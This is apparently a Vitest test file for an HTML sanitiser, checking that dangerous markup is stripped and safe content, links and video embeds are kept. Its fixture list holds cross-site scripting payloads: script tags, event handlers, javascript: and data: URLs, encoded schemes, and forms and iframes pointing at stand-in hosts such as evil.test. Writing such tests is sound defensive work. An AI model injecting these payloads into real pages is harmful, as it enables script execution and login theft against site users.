import { describe, expect, it } from 'vitest';
import { allowedVideoEmbedPrefixes } from '@upline/contract/video-embed';
import { allowedTags, attributesByTag, messageTags } from '@upline/contract/html-policy';
import { sanitizeContentHtml, sanitizeMessageHtml } from './sanitize-html.js';
import { videoFrameHosts } from '../../http/security.js';

/** Hostile inputs, each with what must not survive sanitising. */
const hostile: { name: string; html: string; forbidden: RegExp[] }[] = [
  { name: 'script tag', html: '<p>hi</p><script>alert(1)</script>', forbidden: [/<script/i, /alert/] },
  { name: 'script with src', html: '<script src="https://evil.test/x.js"></script>', forbidden: [/<script/i, /evil/] },
  { name: 'img onerror', html: '<img src="x" onerror="alert(1)">', forbidden: [/onerror/i, /alert/] },
  { name: 'event handler on a heading', html: '<h2 onmouseover="steal()">Title</h2>', forbidden: [/onmouseover/i, /steal/] },
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>', forbidden: [/javascript:/i] },
  { name: 'mixed-case JaVaScRiPt: link', html: '<a href="JaVaScRiPt:alert(1)">x</a>', forbidden: [/javascript:/i, /alert/] },
  { name: 'entity-encoded javascript', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', forbidden: [/href/i, /alert/, /&#106;/] },
  { name: 'hex entities and a tab inside the scheme', html: '<a href="jav&#x09;ascript:alert(1)">x</a>', forbidden: [/href/i, /alert/] },
  { name: 'leading space before the scheme', html: '<a href="  javascript:alert(1)">x</a>', forbidden: [/href/i, /alert/] },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', forbidden: [/vbscript/i] },
  { name: 'data: link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', forbidden: [/data:/i] },
  { name: 'data: image', html: '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', forbidden: [/data:/i, /<img/i] },
  { name: 'http image', html: '<img src="http://tracker.test/pixel.gif">', forbidden: [/tracker/, /<img/i] },
  { name: 'iframe from another host', html: '<iframe src="https://evil.test/embed/1"></iframe>', forbidden: [/<iframe/i, /evil/] },
  { name: 'iframe from a look-alike host', html: '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>', forbidden: [/<iframe/i, /evil/] },
  { name: 'iframe with credentials trick', html: '<iframe src="https://evil.test@player.vimeo.com/video/1"></iframe>', forbidden: [/evil/] },
  { name: 'iframe of a javascript: URL', html: '<iframe src="javascript:alert(1)"></iframe>', forbidden: [/<iframe/i, /alert/] },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube-nocookie.com/embed/a"></iframe>', forbidden: [/srcdoc/i, /alert/] },
  { name: 'svg onload', html: '<svg onload="alert(1)"><circle r="5"/></svg>', forbidden: [/<svg/i, /onload/i, /alert/] },
  { name: 'svg with script', html: '<svg><script>alert(1)</script></svg>', forbidden: [/<svg/i, /<script/i, /alert/] },
  { name: 'style attribute with expression', html: '<div style="width: expression(alert(1))">x</div>', forbidden: [/style/i, /expression/] },
  { name: 'style element', html: '<style>body { background: url("javascript:alert(1)") }</style><p>x</p>', forbidden: [/<style/i, /javascript/i, /background/] },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=https://evil.test">', forbidden: [/<meta/i, /refresh/i, /evil/] },
  { name: 'object', html: '<object data="https://evil.test/x.swf"></object>', forbidden: [/<object/i, /evil/] },
  { name: 'embed', html: '<embed src="https://evil.test/x.swf">', forbidden: [/<embed/i, /evil/] },
  { name: 'form with action', html: '<form action="https://evil.test/steal"><input name="password"><button>Go</button></form>', forbidden: [/<form/i, /<input/i, /<button/i, /evil/] },
  { name: 'base href', html: '<base href="https://evil.test/">', forbidden: [/<base/i, /evil/] },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.test/x.css">', forbidden: [/<link/i, /evil/] },
  { name: 'math xlink', html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', forbidden: [/<math/i, /xlink/i, /alert/] },
  { name: 'comment-hidden script', html: '<!--<script>alert(1)</script>--><p>x</p>', forbidden: [/<script/i, /alert/, /<!--/] },
  { name: 'target _blank without rel', html: '<a href="https://partner.test" target="_blank" rel="opener">p</a>', forbidden: [/rel="opener"/] },
  { name: 'id carrying markup', html: '<h2 id="x&quot; onclick=&quot;alert(1)">t</h2>', forbidden: [/onclick/i, /alert/] },
  { name: 'protocol-relative image', html: '<img src="//evil.test/pixel.gif">', forbidden: [/evil/] },
];

describe('sanitizeContentHtml', () => {
  it.each(hostile)('removes $name', ({ html, forbidden }) => {
    const out = sanitizeContentHtml(html);
    for (const pattern of forbidden) expect(out).not.toMatch(pattern);
  });

  it('keeps headings with their anchor ids, paragraphs, lists, tables, figures and quotes', () => {
    const html =
      '<h2 id="shipping">Shipping</h2><p>3 to 5 <strong>business</strong> <em>days</em></p>' +
      '<ul><li>One</li></ul><ol start="2"><li>Two</li></ol>' +
      '<table><thead><tr><th scope="col">Zone</th></tr></thead><tbody><tr><td colspan="2">CA</td></tr></tbody></table>' +
      '<figure><img src="/media/gallery/a.jpg" alt="Jar"><figcaption>Jar</figcaption></figure>' +
      '<blockquote>Great</blockquote><div class="note" id="faq-1"><span class="hl">x</span></div>';
    const out = sanitizeContentHtml(html);
    expect(out).toContain('<h2 id="shipping">Shipping</h2>');
    expect(out).toContain('<p>3 to 5 <strong>business</strong> <em>days</em></p>');
    expect(out).toContain('<ol start="2">');
    expect(out).toContain('<th scope="col">Zone</th>');
    expect(out).toContain('<td colspan="2">CA</td>');
    expect(out).toContain('<img src="/media/gallery/a.jpg" alt="Jar" />');
    expect(out).toContain('<blockquote>Great</blockquote>');
    expect(out).toContain('<div class="note" id="faq-1"><span class="hl">x</span></div>');
  });

  it('keeps http, https, mailto, tel and relative links, and adds rel noopener to new-tab links', () => {
    const out = sanitizeContentHtml(
      '<a href="https://a.test" target="_blank">a</a><a href="http://b.test">b</a><a href="mailto:help@upline.test">c</a>' +
        '<a href="tel:+18005551234">d</a><a href="/pages/faq#shipping">e</a><a href="#top">f</a>',
    );
    expect(out).toContain('<a href="https://a.test" target="_blank" rel="noopener noreferrer">a</a>');
    expect(out).toContain('href="http://b.test"');
    expect(out).toContain('href="mailto:help@upline.test"');
    expect(out).toContain('href="tel:+18005551234"');
    expect(out).toContain('href="/pages/faq#shipping"');
    expect(out).toContain('href="#top"');
  });

  it('keeps YouTube (cookie-less) and Vimeo players with allowfullscreen, and moves youtube.com embeds to youtube-nocookie', () => {
    const out = sanitizeContentHtml(
      '<iframe src="https://www.youtube-nocookie.com/embed/abc123" width="560" height="315" onload="x()" style="border:0"></iframe>' +
        '<iframe src="https://www.youtube.com/embed/def456?start=10"></iframe>' +
        '<iframe src="https://player.vimeo.com/video/76979871"></iframe>' +
        '<iframe src="https://www.youtube.com/watch?v=abc"></iframe>',
    );
    expect(out).toContain('<iframe src="https://www.youtube-nocookie.com/embed/abc123" allowfullscreen width="560" height="315" loading="lazy"></iframe>');
    expect(out).toContain('src="https://www.youtube-nocookie.com/embed/def456?start=10"');
    expect(out).toContain('src="https://player.vimeo.com/video/76979871"');
    expect(out).not.toContain('watch?v=');
    expect(out).not.toMatch(/onload|style/);
    expect(out.match(/<iframe/g)).toHaveLength(3);
  });

  it('only embeds players whose host the Content-Security-Policy allows to be framed', () => {
    for (const prefix of allowedVideoEmbedPrefixes) expect(videoFrameHosts).toContain(new URL(prefix).origin);
  });

  it('applies the contract’s one policy, the one the browser applies: every allowed tag stays, with its allowed attributes', () => {
    const voidTags = new Set(['br', 'hr']);
    const sample: Record<string, string> = { colspan: '2', rowspan: '2', span: '2', start: '3', width: '10', height: '10', scope: 'col', type: 'a' };
    for (const tag of allowedTags.filter((name) => name !== 'iframe' && name !== 'img' && name !== 'col')) {
      const attributes = (attributesByTag[tag] ?? []).filter((name) => name in sample).map((name) => ` ${name}="${sample[name]}"`).join('');
      const html = voidTags.has(tag) ? `<${tag}${attributes}>` : `<${tag}${attributes}>x</${tag}>`;
      expect(sanitizeContentHtml(html), tag).toBe(voidTags.has(tag) ? `<${tag}${attributes} />` : html);
    }
    expect(sanitizeContentHtml('<table><colgroup span="2"><col span="2"></colgroup></table>')).toContain('<col span="2"');
    const messageKept = sanitizeMessageHtml(messageTags.filter((tag) => tag !== 'a' && tag !== 'br' && tag !== 'hr').map((tag) => `<${tag}>x</${tag}>`).join(''));
    expect(messageKept).toBe(messageTags.filter((tag) => tag !== 'a' && tag !== 'br' && tag !== 'hr').map((tag) => `<${tag}>x</${tag}>`).join(''));
    expect(sanitizeMessageHtml('<img src="https://tracker.test/p.gif"><table><tr><td>x</td></tr></table>')).toBe('x');
  });

  it('is idempotent: sanitising clean output changes nothing', () => {
    const once = sanitizeContentHtml(hostile.map((h) => h.html).join('') + '<h2 id="a">A</h2><a href="https://x.test" target="_blank">x</a>');
    expect(sanitizeContentHtml(once)).toBe(once);
  });
});
